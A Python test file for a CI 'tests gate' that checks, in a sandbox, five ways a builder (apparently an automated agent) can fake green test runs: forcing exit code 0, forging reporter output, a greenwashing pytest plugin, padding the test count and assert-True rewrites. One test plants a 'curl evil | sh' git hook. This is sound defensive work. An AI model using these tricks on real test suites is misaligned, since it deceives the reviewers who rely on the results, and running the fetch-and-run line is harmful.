"""The tests gate (cockpit.factory.gates.TestsGate) against the five attacks of issue 17.

Real git repos, the real bwrap sandbox, real pytest runs. Each attack first lands with its
defence switched off on the gate (`gate.defences`, or the old exit-code-only run), then
does not land with it.
"""

from __future__ import annotations

from gate_kit import BROKEN, FIFO_FD, GREENWASH, PYTEST, branch, check
from gitrepo import run_git, write_files

from cockpit.factory.evidence import CONTRADICTS
from cockpit.factory.gates import DEFENCES, REPORTER_REACHED, TESTS_CHANGED
from cockpit.factory.green_trees import GreenTrees
from cockpit.factory.guards import PROTECTED_CHANGED, TESTS_REMOVED
from cockpit.factory.workspaces import Workspaces


async def test_a_good_change_passes_with_its_tests_counted_and_a_bad_one_goes_back(repo, gate):
    ok = await check(gate, repo, branch(repo, {"calc.py": "def add(a, b):\n    return b + a\n"}))
    assert ok.action == "pass", ok.text
    tests, guard = ok.verdicts
    assert tests["outcome"] == "pass" and "3 passed" in tests["detail"] and len(tests["tree"]) == 40
    assert guard["outcome"] == "pass" and guard["detail"].startswith("3 tests collected (main ")
    bad = await check(gate, repo, branch(repo, BROKEN))
    assert bad.action == "back" and bad.reasons == ["tests"] and "2 failed, 1 passed" in bad.text


async def test_attack_1_atexit_os_exit_0_after_red_tests(repo, gate):
    sha = branch(repo, {**BROKEN, "tests/test_zz.py": "import atexit, os\natexit.register(lambda: os._exit(0))\n\n\n"
                                                      "def test_z():\n    pass\n"})
    landed = await check(gate, repo, sha, off=["evidence"])
    assert landed.action == "pass" and "FAILURES" in landed.verdicts[0]["detail"], "liveness: the exit code lies"
    res = await check(gate, repo, sha)
    assert res.action == "block" and CONTRADICTS in res.reasons
    assert "pytest ended its session with status 1, but the command exited 0" in res.text
    assert "exit code 0 although 2 failed: tests/test_calc.py::test_add" in res.text
    assert "tests/test_zz.py:2: registers an atexit handler" in res.text  # the cause, file:line


async def test_attack_2_a_test_forges_the_count_after_tests_were_deleted(repo, gate):
    # the failing tests are deleted (file kept), and a test writes the missing ids into the outcome stream
    forge = ("import json\n" + FIFO_FD + "def test_forge():\n"
             "    ids = ['tests/test_calc.py::test_add', 'tests/test_calc.py::test_add_negative']\n"
             "    os.write(_fifo_fd(), (json.dumps({'ev': 'collected', 'ids': ids}) + '\\n').encode())\n"
             "    for i in ids:\n        for when in ('setup', 'call', 'teardown'):\n"
             "            rec = {'ev': 'report', 'id': i, 'when': when, 'outcome': 'passed', 'xfail': False}\n"
             "            os.write(_fifo_fd(), (json.dumps(rec) + '\\n').encode())\n")
    sha = branch(repo, {**BROKEN, "tests/test_calc.py": "from calc import add\n", "tests/test_forge.py": forge})
    landed = await check(gate, repo, sha, off=["evidence", "identity", "main_copies", "reporter_reach"])
    assert landed.action == "pass", "liveness: the forged ids make main's tests look present"
    res = await check(gate, repo, sha, off=["identity", "main_copies", "reporter_reach"])  # the stream alone sees through it
    assert res.action == "block" and CONTRADICTS in res.reasons
    assert "was not written by the cockpit's reporter (unsigned)" in res.text  # the seal
    res = await check(gate, repo, sha, off=["seal", "identity", "main_copies", "reporter_reach"])  # without it: counts
    assert res.action == "block" and "pytest announced 2 collected tests but named 4" in res.text
    res = await check(gate, repo, sha)  # all on: its reach into the reporter's fd blocks before it runs
    assert res.action == "block" and res.reasons == [REPORTER_REACHED]
    gate.defences -= {"evidence", "reporter_reach"}  # and the identity of main's tests alone names what went
    try:
        res = await gate.check(repo, "main", sha, PYTEST)
    finally:
        gate.defences = set(DEFENCES)
    assert res.action == "block" and res.reasons == [TESTS_REMOVED]
    assert "tests/test_calc.py::test_add, removed (its function is gone)" in res.text
    # and nothing the tests can reach can rewrite the record after the fact: the plugin dir is read-only
    rewrite = "import cockpit_outcomes, os\n\n\ndef test_rewrite():\n    open(cockpit_outcomes.__file__, 'a').write('#')\n"
    sha = branch(repo, {"tests/test_rewrite.py": rewrite})
    res = await check(gate, repo, sha)
    assert res.action == "back" and "Read-only file system" in res.text


async def test_attack_3_a_dot_pytest_ini_loads_a_plugin_that_greenwashes(repo, gate):
    # pytest.ini wins over .pytest.ini, so the attack moves the configuration over
    sha = branch(repo, {**BROKEN, ".pytest.ini": "[pytest]\npythonpath = .\naddopts = -p greenwash\n",
                        "greenwash.py": GREENWASH}, delete=["pytest.ini"])
    landed = await check(gate, repo, sha, off=["protected", "runner_config", "raw_outcomes"])
    assert landed.action == "pass", "liveness: the plugin turns the red run green"
    res = await check(gate, repo, sha)
    assert res.action == "block" and res.reasons == [PROTECTED_CHANGED] and ".pytest.ini" in res.text
    # defence in depth: with the file list off, the runner's own configuration gives it away
    deep = await check(gate, repo, sha, off=["protected", "raw_outcomes"])
    assert deep.action == "block" and "runner configuration changed" in deep.reasons
    assert "the runner loaded plugins main's run did not: greenwash" in deep.text
    assert "read its configuration from .pytest.ini, on main from pytest.ini" in deep.text
    # and with that off too, the reporter saw each failing call raise before the plugin rewrote its report
    deeper = await check(gate, repo, sha, off=["protected", "runner_config"])
    assert deeper.action == "block" and CONTRADICTS in deeper.reasons
    assert "tests/test_calc.py::test_add raised in its call but was reported passed" in deeper.text


async def test_attack_4_an_ignored_uncommitted_test_file_pads_the_count(tmp_path, repo, gate):
    ws = Workspaces(tmp_path / "worktrees")
    wt = await ws.ensure("p", repo, "main", "T4")
    write_files(wt, {".gitignore": "tests/test_pad.py\n", "tests/test_calc.py": "from calc import add\n\n\n"
                     "def test_add():\n    assert add(2, 3) == 5\n",  # test_add_negative deleted
                     "tests/test_pad.py": "def test_pad():\n    pass\n", **BROKEN})
    for rel in ("tests/test_calc.py", "calc.py", ".gitignore"):
        run_git(wt, "add", rel)
    sha = await ws.commit(wt, "abs add", "builder-1")
    assert (wt / "tests/test_pad.py").exists() and "test_pad" not in run_git(repo, "ls-tree", "-r", sha)
    # liveness: run where the builder works, as the gate used to: the padded count equals main's
    old = await gate.sandbox.run(f"{PYTEST} --collect-only", cwd=wt, writable=[wt], timeout_s=60,
                                 output_cap_bytes=64_000)
    assert "3 tests collected" in old.output, old.output
    res = await check(gate, repo, sha)
    assert res.action == "block" and res.reasons == [TESTS_REMOVED]
    assert "tests changed: tests/test_calc.py::test_add_negative, removed (its function is gone)" in res.text
    assert "tests/test_calc.py: 2 -> 1" in res.text
    assert "test_pad" not in res.verdicts[0]["detail"], "the clean checkout has no ignored file"


async def test_attack_5_assert_true_under_the_same_names(repo, gate):
    sha = branch(repo, {"calc.py": "def add(a, b):\n    return 0\n",
                        "tests/test_calc.py": "def test_add():\n    assert True\n\n\ndef test_add_negative():\n"
                                              "    assert True\n"})
    landed = await check(gate, repo, sha, off=["identity", "main_copies"])
    assert landed.action == "pass", "liveness: same count, same names, green"
    res = await check(gate, repo, sha)
    assert res.action == "block" and res.reasons == [TESTS_CHANGED]
    assert ("tests changed: tests/test_calc.py::test_add, body rewritten; "
            "tests/test_calc.py::test_add_negative, body rewritten") in res.text


async def test_tests_that_landed_on_main_since_do_not_count_against_the_branch(repo, gate):
    sha = branch(repo, {"tests/test_sub.py": "def test_a():\n    pass\n"})
    landed = branch(repo, {"tests/test_landed.py": "def test_x():\n    pass\n\n\ndef test_y():\n    pass\n"})
    run_git(repo, "merge", "-q", "--ff-only", landed)  # another task lands two tests on main meanwhile
    try:
        res = await check(gate, repo, sha)
        assert res.action == "pass", res.text
        # judged as it would land (merged onto main's head): the branch's test and main's five, none counted against it
        assert res.verdicts[1]["detail"].startswith("6 tests collected (main "), res.verdicts[1]["detail"]
        assert ": 5), each of main's unchanged\ntested as it would land" in res.verdicts[1]["detail"]
    finally:
        run_git(repo, "reset", "-q", "--hard", "HEAD~1")


async def test_a_quiet_runner_without_a_summary_line_is_no_contradiction(repo, gate):
    """-qq prints no "N passed" line: the reporter says so, and the cross-check does not expect one."""
    ok = await check(gate, repo, branch(repo, {"calc.py": "def add(a, b):\n    return b + a\n"}), command=f"{PYTEST} -qq")
    output = ok.verdicts[0]["detail"].split("\nmain's tests apart")[0]  # (each of main's files alone, after it)
    assert ok.action == "pass" and "passed" not in output, ok.text
    # while a summary line that does not match the reports still is one (a test prints a fake at exit)
    fake = "import atexit\natexit.register(lambda: print('9 passed in 0.01s'))\n"
    res = await check(gate, repo, branch(repo, {"tests/test_zz.py": fake}))
    assert res.action == "block" and "the runner's summary says 9 passed, the reports say 3 passed" in res.text


async def test_a_command_that_runs_pytest_twice_in_a_row_is_one_consistent_run(repo, gate):
    twice = f"{PYTEST} tests/test_calc.py && {PYTEST} tests/test_more.py"
    ok = await check(gate, repo, branch(repo, {"calc.py": "def add(a, b):\n    return b + a\n"}), command=twice)
    assert ok.action == "pass", ok.text
    bad = await check(gate, repo, branch(repo, BROKEN), command=f"{PYTEST} tests/test_calc.py; {PYTEST} tests/test_more.py")
    assert bad.action == "block" and "exit code 0 although 2 failed" in bad.text  # the second run's 0 hides nothing


async def test_timeout_fails(repo, gate):
    slow = branch(repo, {"tests/test_slow.py": "import time\n\n\ndef test_slow():\n    time.sleep(30)\n"})
    gate.timeout_s = 1
    try:
        r = await check(gate, repo, slow)
    finally:
        gate.timeout_s = 60
    assert r.action == "back" and "timed out after 1 s" in r.text


async def test_code_cannot_write_outside_its_checkout(tmp_path, repo, gate):
    """A test that edits factory.toml or installs a git hook fails in the sandbox; the host is untouched."""
    hooks = repo / ".git" / "hooks"
    evil = (f"def test_hook():\n    open({str(hooks / 'pre-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n")
    r = await check(gate, repo, branch(repo, {"tests/test_evil.py": evil}))
    # the hooks directory is not even in the sandbox (only what read-only git needs of .git is bound)
    assert r.action == "back" and "FileNotFoundError" in r.text, r.text
    assert not (hooks / "pre-commit").exists()


async def test_a_main_test_module_that_no_longer_imports_is_a_failed_run_not_a_removed_test(repo, gate):
    """calc's add renamed with main's test file left as it was: the module fails to import, so its tests are
    not collected. That is a failed run (back to the builder), never "tests removed" for the human."""
    gate.greens = GreenTrees()
    sha = branch(repo, {"calc.py": "def plus(a, b):\n    return a + b\n"})
    res = await check(gate, repo, sha)
    assert res.action == "back" and res.reasons == ["tests"], res.text
    assert "removed" not in res.text and "ERROR tests/test_calc.py" in res.text, res.text
